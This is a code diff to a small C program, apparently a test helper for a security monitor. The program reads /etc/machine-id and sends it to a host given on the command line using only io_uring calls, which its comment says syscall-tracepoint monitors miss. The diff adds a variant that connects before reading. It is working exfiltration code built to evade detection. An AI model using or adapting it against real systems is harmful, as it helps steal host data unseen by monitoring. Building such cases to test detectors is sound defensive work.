@@ -1,6 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
 /* uring_leak: reads /etc/machine-id and sends it to ADDR:PORT using io_uring only (open, read,
- * connect, send), the path syscall-tracepoint monitors do not see. */
+ * connect, send), the path syscall-tracepoint monitors do not see. With a third argument, "send"
+ * or "write", it connects (connect(2)) before it reads the identifier, then sends with that
+ * io_uring op: a connection made before the taint. */
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <liburing.h>
@@ -27,20 +29,40 @@ int main(int argc, char **argv)
 	struct sockaddr_in sa = { .sin_family = AF_INET };
 	struct io_uring ring;
 	struct io_uring_sqe *sqe;
+	const char *early = argc == 4 ? argv[3] : NULL;
 	char buf[128];
-	int fd, sock, n;
+	int fd, sock = -1, n;
 
-	if (argc != 3 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
+	if (argc < 3 || argc > 4 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
 		return 2;
 	sa.sin_port = htons(atoi(argv[2]));
 	if (io_uring_queue_init(8, &ring, 0))
 		return 3;
+	if (early) {
+		sock = socket(AF_INET, SOCK_STREAM, 0);
+		if (connect(sock, (struct sockaddr *)&sa, sizeof(sa)))
+			return 4;
+	}
 	sqe = io_uring_get_sqe(&ring);
 	io_uring_prep_openat(sqe, AT_FDCWD, "/etc/machine-id", O_RDONLY, 0);
 	fd = run(&ring, sqe);
 	sqe = io_uring_get_sqe(&ring);
 	io_uring_prep_read(sqe, fd, buf, sizeof(buf), 0);
 	n = run(&ring, sqe);
+	if (early) {
+		if (fd < 0 || n <= 0)
+			return 4;
+		sqe = io_uring_get_sqe(&ring);
+		if (!strcmp(early, "write"))
+			io_uring_prep_write(sqe, sock, buf, n, 0);
+		else
+			io_uring_prep_send(sqe, sock, buf, n, 0);
+		if (run(&ring, sqe) != n)
+			return 5;
+		printf("%d\n", getpid());
+		io_uring_queue_exit(&ring);
+		return 0;
+	}
 	sock = socket(AF_INET, SOCK_STREAM, 0);
 	sqe = io_uring_get_sqe(&ring);
 	io_uring_prep_connect(sqe, sock, (struct sockaddr *)&sa, sizeof(sa));
